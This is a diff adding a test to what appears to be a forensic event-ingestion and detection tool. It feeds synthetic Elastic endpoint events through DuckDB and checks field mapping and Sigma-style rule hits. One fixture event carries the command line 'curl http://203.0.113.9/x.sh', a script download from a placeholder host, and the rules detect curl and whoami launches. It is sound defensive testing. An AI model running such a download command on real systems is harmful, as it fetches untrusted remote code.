@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import uuid
 from pathlib import Path
 
 import duckdb
@@ -273,3 +274,77 @@ def test_get_winevent_properties_are_named_by_the_events_template() -> None:
     for properties in (doc["Properties"][:-3], [{"Value": "x"}] * 23):
         odd = as_windows({**doc, "Properties": properties})
         assert odd is not None and "Image" not in odd and "CommandLine" not in odd
+
+
+def _ecs(os_type: str, executable: str, command: str, **extra: object) -> dict[str, object]:
+    return {
+        "@timestamp": "2024-03-05T11:00:00.500Z",
+        "agent": {"type": "endpoint"},
+        "event": {"category": ["process"], "type": ["start"], "dataset": "endpoint.events.process"},
+        "host": {"name": "WS01", "os": {"type": os_type}},
+        "process": {
+            "executable": executable,
+            "command_line": command,
+            "pid": 4660,
+            "parent": {"executable": "C:\\Windows\\System32\\cmd.exe", "pid": 4000},
+            "hash": {"sha256": "ab" * 32},
+        },
+        "user": {"name": "alice", "domain": "CORP"},
+        **extra,
+    }
+
+
+def test_elastic_endpoint_events_run_the_rules_of_their_category(tmp_path: Path) -> None:
+    evidence = tmp_path / "ev"
+    events = [
+        _ecs("windows", "C:\\Windows\\System32\\whoami.exe", CMD),
+        _ecs("linux", "/usr/bin/curl", "curl http://203.0.113.9/x.sh"),
+        # A process that ended is not a creation: kept as it is, and no process rule runs on it.
+        {
+            **_ecs("windows", "C:\\Windows\\System32\\whoami.exe", CMD),
+            "event": {"category": ["process"], "type": ["end"]},
+        },
+        {
+            **_ecs("windows", "C:\\Windows\\System32\\whoami.exe", CMD),
+            "event": {"category": ["network"], "type": ["start"]},
+            "destination": {"ip": "203.0.113.9", "port": 443},
+            "network": {"direction": "egress", "transport": "tcp"},
+        },
+    ]
+    _write(evidence, "defend.ndjson", "\n".join(json.dumps(e) for e in events) + "\n")
+    report = ingest([evidence], tmp_path / "case" / "events", jobs=1)
+    assert report.events == {"windows": 2, "linux": 1, "generic": 1}
+    rel = duckdb.sql(
+        f"SELECT * FROM read_parquet('{tmp_path}/case/events/windows/*.parquet', union_by_name=true)"
+    )
+    rows = {r["_log"]: r for r in (dict(zip(rel.columns, x, strict=True)) for x in rel.fetchall())}
+    start = rows["process_creation"]
+    assert (start["Image"], start["CommandLine"], start["User"]) == (
+        "C:\\Windows\\System32\\whoami.exe",
+        CMD,
+        "CORP\\alice",
+    )
+    assert (
+        start["ParentImage"] == "C:\\Windows\\System32\\cmd.exe" and start["Hashes"] == "SHA256=" + "AB" * 32
+    )
+    assert (rows["network_connection"]["DestinationIp"], rows["network_connection"]["Initiated"]) == (
+        "203.0.113.9",
+        "true",
+    )
+    assert start["_host"] == "WS01" and str(start["_ts"]).startswith("2024-03-05T11:00:00.5")
+    for name, logsource, detection in (
+        (
+            "win",
+            "    product: windows\n    category: process_creation",
+            "        Image|endswith: '\\whoami.exe'",
+        ),
+        ("lin", "    product: linux\n    category: process_creation", "        Image|endswith: '/curl'"),
+        ("net", "    product: windows\n    category: network_connection", "        DestinationPort: 443"),
+    ):
+        write_rule(
+            tmp_path / "rules", name,
+            rule(str(uuid.uuid5(uuid.NAMESPACE_URL, name)), name, logsource, f"    sel:\n{detection}\n    condition: sel"),
+        )  # fmt: skip
+    with DuckDBEngine(tmp_path / "case" / "events", threads=1) as db:
+        hits = list(db.run(load_rules([tmp_path / "rules"]).rules))
+    assert sorted(h.rule.title for h in hits) == ["lin", "net", "win"]
